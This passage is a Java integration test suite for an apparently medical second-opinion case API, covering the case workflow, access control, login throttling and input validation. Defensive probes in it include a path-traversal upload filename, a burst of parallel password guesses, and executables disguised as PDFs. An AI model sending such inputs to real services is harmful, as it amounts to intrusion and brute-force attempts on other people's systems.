package org.consilium;

import static org.assertj.core.api.Assertions.assertThat;
import static org.consilium.ApiClient.assertProblem;

import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.consilium.ApiClient.Response;
import org.consilium.review.ReviewManagement;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/**
 * The case loop through the public API, as patients, a coordinator and specialists use it, and what the API answers
 * to those who may not, to bad input and to requests without a valid token. The database is shared with other
 * integration tests: every test makes its own cases and finds them by id.
 */
@IntegrationTest
class CaseLoopIntegrationTests {

    private static final String PATIENT = "patient@example.org";
    private static final String OTHER_PATIENT = "patient2@example.org";
    private static final String COORDINATOR = "coordinator@example.org";
    private static final String ONCOLOGIST = "oncologist@example.org";
    private static final String CARDIOLOGIST = "cardiologist@example.org";
    private static final String ADMIN = "admin@example.org";

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    ReviewManagement review;

    ApiClient api;

    @BeforeEach
    void client() {
        api = new ApiClient(port);
    }

    @Test
    void a_case_goes_from_draft_to_a_signed_opinion_the_patient_can_read() throws Exception {
        // given: the patient opens a case with two questions and adds a pathology report
        String patient = api.token(PATIENT);
        Response opened = api.post(patient, "/api/v1/cases", caseRequest());
        assertThat(opened.status()).as("%s", opened).isEqualTo(201);
        String caseId = opened.json().get("id").asString();
        assertThat(opened.header("Location")).contains("/api/v1/cases/" + caseId);
        assertThat(opened.json().get("status").asString()).isEqualTo("DRAFT");
        List<String> questionIds = questionIds(opened.json());
        assertThat(questionIds).hasSize(2);

        byte[] pdf = FileFixtures.pdf("Pathology report");
        Response uploaded = api.upload(patient, "/api/v1/cases/" + caseId + "/records", "pathology.pdf", pdf,
                Map.of("category", "PATHOLOGY_REPORT"));
        assertThat(uploaded.status()).as("%s", uploaded).isEqualTo(201);
        assertThat(uploaded.json().get("contentType").asString()).isEqualTo("application/pdf");
        assertThat(uploaded.json().get("sha256").asString()).isEqualTo(sha256(pdf));
        assertThat(uploaded.json().get("size").asLong()).isEqualTo(pdf.length);
        assertThat(uploaded.json().get("source").asString()).isEqualTo("PATIENT_UPLOAD");

        // when: it is submitted, triaged, completed, offered, accepted, written and signed
        assertStatus(api.post(patient, "/api/v1/cases/" + caseId + "/submit", null), "SUBMITTED");

        String coordinator = api.token(COORDINATOR);
        Response queue = api.get(coordinator, "/api/v1/cases");
        assertThat(queue.status()).isEqualTo(200);
        assertThat(item(queue.json().get("items"), caseId).get("status").asString()).isEqualTo("SUBMITTED");

        assertStatus(api.post(coordinator, "/api/v1/cases/" + caseId + "/triage", Map.of("decision", "ACCEPT")),
                "COLLECTING_RECORDS");
        api.waiveChecklist(coordinator, caseId);
        assertStatus(api.post(coordinator, "/api/v1/cases/" + caseId + "/records-complete", null),
                "READY_FOR_MATCHING");

        Response directory = api.get(coordinator, "/api/v1/specialists?specialty=MEDICAL_ONCOLOGY");
        assertThat(directory.status()).isEqualTo(200);
        assertThat(directory.json().values()).isNotEmpty()
                .allSatisfy(s -> assertThat(s.get("specialties").toString()).contains("MEDICAL_ONCOLOGY"));
        String oncologistId = specialistId(directory.json(), "Dr. Elena Marchetti");

        assertStatus(api.post(coordinator, "/api/v1/cases/" + caseId + "/offers",
                Map.of("specialistId", oncologistId)), "OFFERED");
        String oncologist = api.token(ONCOLOGIST);
        assertStatus(api.post(oncologist, "/api/v1/cases/" + caseId + "/accept", null), "IN_REVIEW");

        Response firstDraft = api.put(oncologist, "/api/v1/cases/" + caseId + "/opinion",
                opinion(questionIds.subList(0, 1)), null);
        assertThat(firstDraft.status()).as("%s", firstDraft).isEqualTo(200);
        assertThat(firstDraft.json().get("status").asString()).isEqualTo("DRAFT");
        String etag = firstDraft.header("ETag").orElseThrow();

        Response tooEarly = api.post(oncologist, "/api/v1/cases/" + caseId + "/opinion/sign", null);
        assertProblem(tooEarly, 409);
        assertThat(tooEarly.json().get("detail").asString())
                .contains("an answer to question 2 (Risks and benefits)");

        Response secondDraft = api.put(oncologist, "/api/v1/cases/" + caseId + "/opinion", opinion(questionIds),
                etag);
        assertThat(secondDraft.status()).as("%s", secondDraft).isEqualTo(200);
        assertThat(secondDraft.header("ETag")).isPresent().get().isNotEqualTo(etag);

        Response signed = api.post(oncologist, "/api/v1/cases/" + caseId + "/opinion/sign", null);
        assertThat(signed.status()).as("%s", signed).isEqualTo(200);

        // then: the patient reads the signed opinion, and the timeline tells the story in order
        Response read = api.get(patient, "/api/v1/cases/" + caseId + "/opinion");
        assertThat(read.status()).as("%s", read).isEqualTo(200);
        JsonNode opinion = read.json();
        assertThat(opinion.get("status").asString()).isEqualTo("SIGNED");
        assertThat(opinion.get("answers").values()).extracting(a -> a.get("questionId").asString())
                .containsExactlyElementsOf(questionIds);
        JsonNode signature = opinion.get("signature");
        assertThat(signature.get("contentSha256").asString()).matches("[0-9a-f]{64}");
        assertThat(signature.get("signature").asString()).isNotBlank();
        assertThat(signature.get("keyId").asString()).matches("[0-9a-f]{16}");
        assertThat(signature.get("signer").asString()).isEqualTo("Dr. Elena Marchetti");
        assertThat(signature.get("verificationCode").asString()).matches("[a-z2-7]{32}");

        String document = jdbc.sql("select signed_document from review_opinions where case_id = ?")
                .param(UUID.fromString(caseId)).query(String.class).single();
        assertThat(sha256(document.getBytes(StandardCharsets.UTF_8)))
                .isEqualTo(signature.get("contentSha256").asString());
        assertThat(review.verifies(document, signature.get("signature").asString())).isTrue();
        assertThat(review.verifies(document.replace("Dr. Elena", "Dr. Elene"),
                signature.get("signature").asString())).isFalse();

        assertStatus(api.get(patient, "/api/v1/cases/" + caseId), "OPINION_DELIVERED");
        Response timeline = api.get(patient, "/api/v1/cases/" + caseId + "/timeline");
        assertThat(timeline.status()).isEqualTo(200);
        assertThat(timeline.json().values()).extracting(t -> t.get("status").asString()).containsExactly(
                "DRAFT", "SUBMITTED", "COLLECTING_RECORDS", "READY_FOR_MATCHING", "OFFERED", "IN_REVIEW",
                "OPINION_DELIVERED");
        assertThat(timeline.json().values()).extracting(t -> t.get("event").asString()).containsExactly(
                "CaseOpened", "CaseSubmitted", "CaseTriaged", "RecordsCompleted", "CaseOffered", "CaseAccepted",
                "OpinionDelivered");
        assertThat(timeline.json().values()).extracting(t -> java.time.Instant.parse(t.get("at").asString()))
                .isSorted();
    }

    @Test
    void record_content_comes_back_byte_for_byte_as_a_download() throws Exception {
        // given
        String patient = api.token(PATIENT);
        String caseId = openCase(patient);
        byte[] pdf = FileFixtures.pdf("Lab result " + UUID.randomUUID());
        Response uploaded = api.upload(patient, "/api/v1/cases/" + caseId + "/records", "labs/../blood work.pdf",
                pdf, Map.of("category", "LAB_RESULT", "dateOfService", "2026-10-02"));
        assertThat(uploaded.status()).as("%s", uploaded).isEqualTo(201);
        String recordId = uploaded.json().get("id").asString();

        // when
        Response content = api.get(patient, "/api/v1/cases/" + caseId + "/records/" + recordId + "/content");

        // then
        assertThat(content.status()).isEqualTo(200);
        assertThat(content.body()).isEqualTo(pdf);
        assertThat(sha256(content.body())).isEqualTo(uploaded.json().get("sha256").asString());
        assertThat(content.contentType()).isEqualTo("application/pdf");
        assertThat(content.header("Content-Disposition")).get().asString()
                .startsWith("attachment").contains("blood work.pdf").doesNotContain("..");
        assertThat(content.header("X-Content-Type-Options")).contains("nosniff");
        assertThat(content.header("Cache-Control")).contains("no-store");
        Response listed = api.get(patient, "/api/v1/cases/" + caseId + "/records");
        assertThat(listed.json().values()).singleElement()
                .satisfies(r -> assertThat(r.get("dateOfService").asString()).isEqualTo("2026-10-02"));
        assertThat(content.header("Accept-Ranges")).contains("bytes");
    }

    @Test
    void a_range_of_a_record_comes_back_alone_and_a_range_past_its_end_is_refused() throws Exception {
        // given a record of a little over two of the vault's 1 MiB segments
        String patient = api.token(PATIENT);
        String caseId = openCase(patient);
        byte[] counts = "Haemoglobin 13.5 g/dL, within range; platelets 250.\n".repeat(2 * 1024 * 1024 / 52 + 100)
                .getBytes(java.nio.charset.StandardCharsets.UTF_8);
        Response uploaded = api.upload(patient, "/api/v1/cases/" + caseId + "/records", "blood counts.txt", counts,
                Map.of("category", "LAB_RESULT"));
        assertThat(uploaded.status()).as("%s", uploaded).isEqualTo(201);
        String path = "/api/v1/cases/" + caseId + "/records/" + uploaded.json().get("id").asString() + "/content";

        // when parts across a segment boundary, and the end, are asked for, and a range past the end
        Response across = api.send("GET", path, patient, Map.of("Range", "bytes=1048570-1048589"),
                java.net.http.HttpRequest.BodyPublishers.noBody());
        Response tail = api.send("GET", path, patient, Map.of("Range", "bytes=-10"),
                java.net.http.HttpRequest.BodyPublishers.noBody());
        Response past = api.send("GET", path, patient, Map.of("Range", "bytes=" + counts.length + "-"),
                java.net.http.HttpRequest.BodyPublishers.noBody());

        // then each answers only its bytes, saying where they lie in the whole
        assertThat(across.status()).isEqualTo(206);
        assertThat(across.body()).isEqualTo(java.util.Arrays.copyOfRange(counts, 1048570, 1048590));
        assertThat(across.header("Content-Range")).contains("bytes 1048570-1048589/" + counts.length);
        assertThat(tail.status()).isEqualTo(206);
        assertThat(tail.body()).isEqualTo(java.util.Arrays.copyOfRange(counts, counts.length - 10, counts.length));
        assertThat(past.status()).isEqualTo(416);
        assertThat(past.header("Content-Range")).contains("bytes */" + counts.length);
        assertThat(past.body()).as("nothing of the record with a refusal").isEmpty();
        Response malformed = api.send("GET", path, patient, Map.of("Range", "bytes=abc"),
                java.net.http.HttpRequest.BodyPublishers.noBody());
        assertThat(malformed.status()).isEqualTo(416);
        assertThat(malformed.body()).isEmpty();
    }

    @Nested
    class Access {

        @Test
        void another_patient_cannot_see_the_case_or_anything_in_it() {
            // given: a case with a record and a signed opinion, and another patient with a valid token
            Created c = caseDelivered();
            String stranger = api.token(OTHER_PATIENT);
            String base = "/api/v1/cases/" + c.id();

            // when
            List<Response> probes = List.of(
                    api.get(stranger, base),
                    api.get(stranger, base + "/records"),
                    api.get(stranger, base + "/records/" + c.recordId() + "/content"),
                    api.get(stranger, base + "/timeline"),
                    api.get(stranger, base + "/opinion"),
                    api.get(stranger, base + "/offers"));

            // then
            assertThat(probes).allSatisfy(r -> {
                assertProblem(r, 404);
                assertThat(r.json().get("detail").asString()).doesNotContain(c.id());
            });
            assertThat(api.get(api.token(PATIENT), base + "/opinion").status()).isEqualTo(200);
            assertThat(ids(api.get(stranger, "/api/v1/cases").json().get("items"))).doesNotContain(c.id());
        }

        @Test
        void a_stranger_cannot_change_the_case_either() {
            // given
            Created c = caseOpened();
            String stranger = api.token(OTHER_PATIENT);

            // when
            Response submit = api.post(stranger, "/api/v1/cases/" + c.id() + "/submit", null);
            Response upload = api.upload(stranger, "/api/v1/cases/" + c.id() + "/records", "x.pdf",
                    FileFixtures.pdf("x"), Map.of("category", "OTHER"));
            Response withdraw = api.post(stranger, "/api/v1/cases/" + c.id() + "/withdraw", null);

            // then
            assertProblem(submit, 404);
            assertProblem(upload, 404);
            assertProblem(withdraw, 404);
            assertStatus(api.get(api.token(PATIENT), "/api/v1/cases/" + c.id()), "DRAFT");
            assertThat(api.get(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/records").json().size())
                    .isEqualTo(1);
        }

        @Test
        void an_offered_specialist_may_see_the_case_but_not_read_record_content_until_accepting() {
            // given
            Created c = caseOffered();
            String path = "/api/v1/cases/" + c.id() + "/records/" + c.recordId() + "/content";

            // when
            Response offered = api.get(api.token(ONCOLOGIST), path);
            Response other = api.get(api.token(CARDIOLOGIST), path);

            // then
            assertProblem(offered, 403);
            assertThat(offered.json().get("detail").asString()).contains("accept the offer");
            assertProblem(other, 404);
            assertThat(api.get(api.token(ONCOLOGIST), "/api/v1/cases/" + c.id()).status()).isEqualTo(200);
            assertProblem(api.get(api.token(CARDIOLOGIST), "/api/v1/cases/" + c.id()), 404);

            // and after accepting, the content opens
            assertStatus(api.post(api.token(ONCOLOGIST), "/api/v1/cases/" + c.id() + "/accept", null), "IN_REVIEW");
            assertThat(api.get(api.token(ONCOLOGIST), path).status()).isEqualTo(200);
        }

        @Test
        void a_withdrawn_case_leaves_the_offered_specialist_s_sight_and_closes_the_offer() {
            // given a case offered to the oncologist
            Created c = caseOffered();

            // when the patient withdraws it
            assertStatus(api.post(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/withdraw",
                    Map.of("reason", "I no longer consent")), "WITHDRAWN");

            // then the specialist can no longer see it, and the coordinator sees the offer closed
            assertProblem(api.get(api.token(ONCOLOGIST), "/api/v1/cases/" + c.id()), 404);
            assertProblem(api.post(api.token(ONCOLOGIST), "/api/v1/cases/" + c.id() + "/accept", null), 404);
            Response offers = api.get(api.token(COORDINATOR), "/api/v1/cases/" + c.id() + "/offers");
            assertThat(offers.status()).isEqualTo(200);
            assertThat(offers.json().get(0).get("outcome").asString()).isEqualTo("WITHDRAWN");
        }

        @Test
        void a_specialist_s_reason_for_declining_is_for_the_coordinator_not_the_patient() {
            // given a case the oncologist declines with a reason
            Created c = caseOffered();
            api.post(api.token(ONCOLOGIST), "/api/v1/cases/" + c.id() + "/decline",
                    Map.of("reason", "Outside my sub-specialty"));

            // when the patient reads the timeline and the offers
            Response timeline = api.get(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/timeline");
            Response offers = api.get(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/offers");

            // then the decline is on the timeline without its reason, and the offers are the coordinator's
            assertThat(timeline.text()).contains("OfferDeclined").doesNotContain("sub-specialty");
            assertProblem(offers, 403);
            assertThat(api.get(api.token(COORDINATOR), "/api/v1/cases/" + c.id() + "/offers").text())
                    .contains("Outside my sub-specialty");
        }

        @Test
        void an_offer_racing_a_withdrawal_ends_one_way_or_the_other_never_in_a_server_error() throws Exception {
            // given cases ready for matching
            String coordinator = api.token(COORDINATOR);
            String patient = api.token(PATIENT);
            String oncologistId = specialistId(api.get(coordinator, "/api/v1/specialists?specialty=MEDICAL_ONCOLOGY")
                    .json(), "Dr. Elena Marchetti");
            List<String> ids = new java.util.ArrayList<>();
            for (int i = 0; i < 8; i++) {
                String id = caseSubmitted().id();
                api.post(coordinator, "/api/v1/cases/" + id + "/triage", Map.of("decision", "ACCEPT"));
                api.waiveChecklist(coordinator, id);
                api.post(coordinator, "/api/v1/cases/" + id + "/records-complete", null);
                ids.add(id);
            }

            // when each is offered and withdrawn at the same moment
            List<Integer> statuses = new java.util.ArrayList<>();
            try (var pool = java.util.concurrent.Executors.newFixedThreadPool(16)) {
                List<java.util.concurrent.Future<Integer>> answers = new java.util.ArrayList<>();
                for (String id : ids) {
                    answers.add(pool.submit(() -> api.post(coordinator, "/api/v1/cases/" + id + "/offers",
                            Map.of("specialistId", oncologistId)).status()));
                    answers.add(pool.submit(() -> api.post(patient, "/api/v1/cases/" + id + "/withdraw",
                            Map.of("reason", "changed my mind")).status()));
                }
                for (var answer : answers) {
                    statuses.add(answer.get());
                }
            }

            // then every request either won or lost cleanly, and every case ended withdrawn
            assertThat(statuses).allMatch(s -> s == 200 || s == 409);
            assertThat(ids).allSatisfy(id -> assertThat(api.get(patient, "/api/v1/cases/" + id).json()
                    .get("status").asString()).isEqualTo("WITHDRAWN"));
        }

        @Test
        void a_specialist_who_was_not_offered_the_case_cannot_accept_it() {
            // given
            Created c = caseOffered();

            // when
            Response accepted = api.post(api.token(CARDIOLOGIST), "/api/v1/cases/" + c.id() + "/accept", null);

            // then
            assertProblem(accepted, 404);
            assertStatus(api.get(api.token(COORDINATOR), "/api/v1/cases/" + c.id()), "OFFERED");
        }

        @Test
        void a_patient_cannot_triage_their_own_case() {
            // given
            Created c = caseSubmitted();

            // when
            Response triaged = api.post(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/triage",
                    Map.of("decision", "ACCEPT"));

            // then
            assertProblem(triaged, 403);
            assertStatus(api.get(api.token(PATIENT), "/api/v1/cases/" + c.id()), "SUBMITTED");
        }
    }

    @Nested
    class Authentication {

        @Test
        void parallel_guesses_cannot_check_more_passwords_than_the_delays_allow() throws Exception {
            // given a fresh account, and twenty wrong passwords sent for it at once from one address
            String email = registered("guessed");
            ApiClient guesser = ApiClient.behindProxy(port, ApiClient.randomAddress());
            List<Response> answers = new ArrayList<>();
            long started = System.nanoTime();
            try (var pool = java.util.concurrent.Executors.newFixedThreadPool(20)) {
                List<java.util.concurrent.Future<Response>> pending = new ArrayList<>();
                for (int i = 0; i < 20; i++) {
                    pending.add(pool.submit(() -> guesser.signIn(email, "guess-number-x")));
                }
                for (var answer : pending) {
                    answers.add(answer.get());
                }
            }
            long seconds = java.time.Duration.ofNanos(System.nanoTime() - started).toSeconds();

            // then five were checked (401), plus one for each delay (5 s, then 10 s, …) that could have passed while
            // they ran; the rest were refused unchecked (429), with the time to wait
            long delaysPassed = seconds < 5 ? 0 : seconds < 15 ? 1 : 2;
            assertThat(answers).extracting(Response::status).containsOnly(401, 429);
            assertThat(answers.stream().filter(a -> a.status() == 401).count())
                    .isLessThanOrEqualTo(5 + delaysPassed);
            assertThat(answers.stream().filter(a -> a.status() == 429)).isNotEmpty()
                    .allSatisfy(a -> assertThat(a.header("Retry-After")).isPresent());
        }

        @Test
        void a_wrong_password_is_refused() {
            // given an account of this test's own, so no other test's throttle count is touched
            String email = registered("wrong");

            // when
            Response signIn = api.signIn(email, "not-the-password");

            // then
            assertProblem(signIn, 401);
            assertThat(signIn.json().has("access_token")).isFalse();
        }

        @Test
        void an_unknown_email_is_refused_exactly_like_a_wrong_password() {
            // given
            String email = registered("known");

            // when
            Response unknown = api.signIn("nobody-" + UUID.randomUUID() + "@example.org", "not-the-password");
            Response wrong = api.signIn(email, "not-the-password");

            // then
            assertProblem(unknown, 401);
            assertThat(unknown.json().get("detail")).isEqualTo(wrong.json().get("detail"));
        }

        private String registered(String name) {
            String email = name + "-" + System.nanoTime() + "@example.org";
            api.post(null, "/api/v1/auth/register", Map.of("email", email, "displayName", "Test Person",
                    "password", "the-real-password", "acceptPrivacyNoticeAndTerms", true));
            return email;
        }

        @Test
        void a_request_without_a_token_is_refused() {
            // when
            Response list = api.get(null, "/api/v1/cases");
            Response open = api.post(null, "/api/v1/cases", caseRequest());

            // then
            assertProblem(list, 401);
            assertProblem(open, 401);
            assertThat(list.header("WWW-Authenticate")).get().asString().startsWith("Bearer");
        }

        @Test
        void a_garbage_token_is_refused() {
            // when
            Response list = api.get("garbage-" + UUID.randomUUID(), "/api/v1/cases");

            // then
            assertProblem(list, 401);
            assertThat(list.header("WWW-Authenticate")).get().asString().contains("invalid_token");
        }

        @Test
        void a_revoked_token_is_refused() {
            // given
            Response issued = api.signIn(OTHER_PATIENT, ApiClient.DEMO_PASSWORD);
            String token = issued.json().get("access_token").asString();
            assertThat(api.get(token, "/api/v1/cases").status()).isEqualTo(200);

            // when
            Response logout = api.post(token, "/api/v1/auth/logout", null);

            // then
            assertThat(logout.status()).isEqualTo(204);
            assertProblem(api.get(token, "/api/v1/cases"), 401);
        }
    }

    @Nested
    class BadInput {

        @Test
        void an_unknown_enum_value_is_a_400_naming_the_field() {
            // given
            Map<String, Object> request = caseRequest();
            request.put("specialty", "ONCOLOGY");

            // when
            Response refused = api.post(api.token(PATIENT), "/api/v1/cases", request);

            // then
            assertProblem(refused, 400);
            assertThat(errorFields(refused)).containsExactly("specialty");
            assertThat(refused.json().get("errors").get(0).get("message").asString())
                    .contains("MEDICAL_ONCOLOGY");
        }

        @Test
        void missing_questions_are_a_400() {
            // given
            Map<String, Object> request = caseRequest();
            request.remove("questions");

            // when
            Response refused = api.post(api.token(PATIENT), "/api/v1/cases", request);

            // then
            assertProblem(refused, 400);
            assertThat(errorFields(refused)).containsExactly("questions");
        }

        @Test
        void an_empty_diagnosis_is_a_400() {
            // given
            Map<String, Object> request = caseRequest();
            request.put("diagnosis", "");

            // when
            Response refused = api.post(api.token(PATIENT), "/api/v1/cases", request);

            // then
            assertProblem(refused, 400);
            assertThat(errorFields(refused)).containsExactly("diagnosis");
        }

        @Test
        void control_characters_in_text_are_a_400_not_a_server_error() {
            // given
            Map<String, Object> request = caseRequest();
            request.put("diagnosis", "a\u0000b");

            // when
            Response refused = api.post(api.token(PATIENT), "/api/v1/cases", request);
            Response token = api.post(null, "/api/v1/auth/token", Map.of("username", "x\u0000@example.org",
                    "password", "whatever-password"));

            // then
            assertProblem(refused, 400);
            assertThat(errorFields(refused)).containsExactly("diagnosis");
            assertProblem(token, 400);
        }

        @Test
        void half_a_surrogate_pair_in_text_is_a_400_not_a_question_mark_in_the_record() {
            // given JSON escapes that name half of a UTF-16 pair, in a case's text and in a new account's name
            String halfPair = "\\ud800";
            String caseJson = """
                    {"diagnosis": "a%sb", "specialty": "NEUROSURGERY",
                     "questions": [{"kind": "TREATMENT_OPTIONS", "text": "Is this right?"}]}""".formatted(halfPair);
            String registration = """
                    {"email": "half-pair-%d@example.org", "displayName": "Ann %s", "password": "a long enough password",
                     "acceptPrivacyNoticeAndTerms": true}""".formatted(System.nanoTime(), "\\udfff");

            // when
            Response refused = api.post(api.token(PATIENT), "/api/v1/cases", caseJson);
            Response notRegistered = api.post(null, "/api/v1/auth/register", registration);

            // then
            assertProblem(refused, 400);
            assertThat(errorFields(refused)).containsExactly("diagnosis");
            assertProblem(notRegistered, 400);
            assertThat(errorFields(notRegistered)).containsExactly("displayName");
        }

        @Test
        void an_offer_needs_a_real_specialist_of_the_case_s_specialty() {
            // given a case ready for matching
            String coordinator = api.token(COORDINATOR);
            String id = caseSubmitted().id();
            api.post(coordinator, "/api/v1/cases/" + id + "/triage", Map.of("decision", "ACCEPT"));
            api.waiveChecklist(coordinator, id);
            api.post(coordinator, "/api/v1/cases/" + id + "/records-complete", null);
            String cardiologist = specialistId(api.get(coordinator, "/api/v1/specialists?specialty=CARDIOLOGY")
                    .json(), "Dr. Rafael Ortega");

            // when offered to no one, to a malformed id, to an unknown id, and to a cardiologist
            List<Response> refused = List.of(
                    api.post(coordinator, "/api/v1/cases/" + id + "/offers", Map.of()),
                    api.post(coordinator, "/api/v1/cases/" + id + "/offers", Map.of("specialistId", "dr-who")),
                    api.post(coordinator, "/api/v1/cases/" + id + "/offers",
                            Map.of("specialistId", java.util.UUID.randomUUID().toString())),
                    api.post(coordinator, "/api/v1/cases/" + id + "/offers", Map.of("specialistId", cardiologist)));

            // then each is a 400 on specialistId, and the case still waits for matching
            assertThat(refused).allSatisfy(r -> {
                assertProblem(r, 400);
                assertThat(errorFields(r)).containsExactly("specialistId");
            });
            assertThat(api.get(coordinator, "/api/v1/cases/" + id).json().get("status").asString())
                    .isEqualTo("READY_FOR_MATCHING");
        }

        @Test
        void a_minor_s_case_is_opened_by_a_parent_not_a_caregiver() {
            // given a case for a child of seven
            Map<String, Object> request = caseRequest();
            request.put("forWhom", "SOMEONE_ELSE");
            request.put("patientName", "Mia Santos");
            request.put("patientBirthDate", java.time.LocalDate.now().minusYears(7).toString());

            // when a caregiver and then a parent open it
            request.put("relationship", "CAREGIVER");
            Response refused = api.post(api.token(PATIENT), "/api/v1/cases", request);
            request.put("relationship", "PARENT");
            Response opened = api.post(api.token(PATIENT), "/api/v1/cases", request);

            // then only the parent's is opened, and the case says whom it is for
            assertProblem(refused, 400);
            assertThat(errorFields(refused)).containsExactly("relationship");
            assertThat(opened.status()).isEqualTo(201);
            String id = opened.json().get("id").asString();
            JsonNode proxy = api.get(api.token(PATIENT), "/api/v1/cases/" + id).json().get("proxy");
            assertThat(proxy.get("patientName").asString()).isEqualTo("Mia Santos");
            assertThat(proxy.get("relationship").asString()).isEqualTo("PARENT");
        }

        @Test
        void oversized_fields_are_a_400_naming_each_one() {
            // given
            Map<String, Object> request = caseRequest();
            request.put("diagnosis", "d".repeat(501));
            request.put("stage", "s".repeat(51));

            // when
            Response refused = api.post(api.token(PATIENT), "/api/v1/cases", request);

            // then
            assertProblem(refused, 400);
            assertThat(errorFields(refused)).containsExactlyInAnyOrder("diagnosis", "stage");
        }

        @Test
        void a_file_over_50_mb_is_a_413_and_nothing_is_stored() {
            // given
            Created c = caseOpened();

            // when
            Response refused = api.upload(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/records", "scan.pdf",
                    new byte[50 * 1024 * 1024 + 1], Map.of("category", "OTHER"));

            // then
            assertProblem(refused, 413);
            assertThat(recordCount(c.id())).isEqualTo(1);
        }

        @Test
        void every_problem_of_a_request_comes_back_at_once() {
            // given
            Map<String, Object> request = caseRequest();
            request.put("diagnosis", " ");
            request.put("urgency", "SOON");
            request.put("icd10Code", "XX");
            request.put("decisionDeadline", "31/12/2026");

            // when
            Response refused = api.post(api.token(PATIENT), "/api/v1/cases", request);

            // then
            assertProblem(refused, 400);
            assertThat(errorFields(refused)).containsExactlyInAnyOrder("diagnosis", "urgency", "icd10Code",
                    "decisionDeadline");
        }

        @Test
        void a_malformed_json_body_is_a_400_problem() {
            // when
            Response refused = api.post(api.token(PATIENT), "/api/v1/cases", "{\"diagnosis\": \"x\", ");

            // then
            assertProblem(refused, 400);
            assertThat(refused.json().get("detail").asString()).contains("JSON");
        }

        @Test
        void a_json_body_of_the_wrong_shape_is_a_400_problem() {
            // when
            Response refused = api.post(api.token(PATIENT), "/api/v1/cases", "{\"questions\": \"many\"}");

            // then
            assertProblem(refused, 400);
        }

        @Test
        void an_empty_file_is_refused_and_nothing_is_stored() {
            // given
            Created c = caseOpened();

            // when
            Response refused = api.upload(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/records", "empty.pdf",
                    new byte[0], Map.of("category", "OTHER"));

            // then
            assertProblem(refused, 400);
            assertThat(errorFields(refused)).containsExactly("file");
            assertThat(recordCount(c.id())).isEqualTo(1);
        }

        @Test
        void an_executable_is_refused_even_when_named_like_a_pdf() {
            // given
            Created c = caseOpened();

            // when
            Response elf = api.upload(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/records", "scan.pdf",
                    FileFixtures.elfExecutable(), Map.of("category", "OTHER"));
            Response script = api.upload(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/records", "notes.txt",
                    FileFixtures.shellScript(), Map.of("category", "CLINICAL_NOTE"));
            Response namedScript = api.upload(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/records",
                    "install.sh", FileFixtures.shellScript(), Map.of("category", "CLINICAL_NOTE"));

            // then
            assertProblem(elf, 400);
            assertProblem(script, 400);
            assertProblem(namedScript, 400);
            assertThat(errorFields(elf)).containsExactly("file");
            assertThat(recordCount(c.id())).isEqualTo(1);
            assertStatus(api.get(api.token(PATIENT), "/api/v1/cases/" + c.id()), "DRAFT");
        }

        @Test
        void an_upload_without_a_file_or_with_an_unknown_category_is_refused() {
            // given
            Created c = caseOpened();
            String path = "/api/v1/cases/" + c.id() + "/records";

            // when
            Response unknownCategory = api.upload(api.token(PATIENT), path, "report.pdf", FileFixtures.pdf("r"),
                    Map.of("category", "X_RAY"));
            Response notMultipart = api.post(api.token(PATIENT), path, Map.of("category", "OTHER"));

            // then
            assertProblem(unknownCategory, 400);
            assertThat(errorFields(unknownCategory)).containsExactly("category");
            assertProblem(notMultipart, 415);
            assertThat(recordCount(c.id())).isEqualTo(1);
        }

        @Test
        void requests_no_endpoint_takes_are_problems_too() {
            // given
            String patient = api.token(PATIENT);

            // when
            Response unknownPath = api.get(patient, "/api/v1/no-such-thing");
            Response wrongMethod = api.send("DELETE", "/api/v1/cases", patient, Map.of(),
                    java.net.http.HttpRequest.BodyPublishers.noBody());

            // then
            assertProblem(unknownPath, 404);
            assertProblem(wrongMethod, 405);
            assertThat(wrongMethod.header("Allow")).get().asString().contains("GET").contains("POST");
        }

        @Test
        void a_case_that_does_not_exist_is_a_404_and_so_is_an_id_that_is_not_a_uuid() {
            // given
            String patient = api.token(PATIENT);

            // when
            Response missing = api.get(patient, "/api/v1/cases/" + UUID.randomUUID());
            Response notAnId = api.get(patient, "/api/v1/cases/not-a-uuid");
            Response submitMissing = api.post(patient, "/api/v1/cases/" + UUID.randomUUID() + "/submit", null);

            // then
            assertProblem(missing, 404);
            assertProblem(notAnId, 404);
            assertProblem(submitMissing, 404);
            assertThat(notAnId.json().get("detail")).isEqualTo(missing.json().get("detail"));
        }

        @Test
        void a_second_submit_is_a_409_with_the_reason_and_changes_nothing() {
            // given
            Created c = caseSubmitted();
            String patient = api.token(PATIENT);
            JsonNode before = api.get(patient, "/api/v1/cases/" + c.id()).json();

            // when
            Response again = api.post(patient, "/api/v1/cases/" + c.id() + "/submit", null);

            // then
            assertProblem(again, 409);
            assertThat(again.json().get("detail").asString())
                    .isEqualTo("only a case that is draft can be submitted; this case is submitted");
            JsonNode after = api.get(patient, "/api/v1/cases/" + c.id()).json();
            assertThat(after).isEqualTo(before);
            assertThat(api.get(patient, "/api/v1/cases/" + c.id() + "/timeline").json().size()).isEqualTo(2);
        }

        @Test
        void records_cannot_be_added_once_the_case_is_ready_for_matching() {
            // given
            Created c = caseOffered();

            // when
            Response refused = api.upload(api.token(COORDINATOR), "/api/v1/cases/" + c.id() + "/records",
                    "late.pdf", FileFixtures.pdf("late"), Map.of("category", "OTHER"));

            // then
            assertProblem(refused, 409);
            assertThat(recordCount(c.id())).isEqualTo(1);
        }

        @Test
        void writing_over_a_draft_needs_its_current_etag() {
            // given
            Created c = caseInReview();
            String oncologist = api.token(ONCOLOGIST);
            String path = "/api/v1/cases/" + c.id() + "/opinion";
            Response first = api.put(oncologist, path, opinion(c.questionIds().subList(0, 1)), null);
            assertThat(first.status()).as("%s", first).isEqualTo(200);
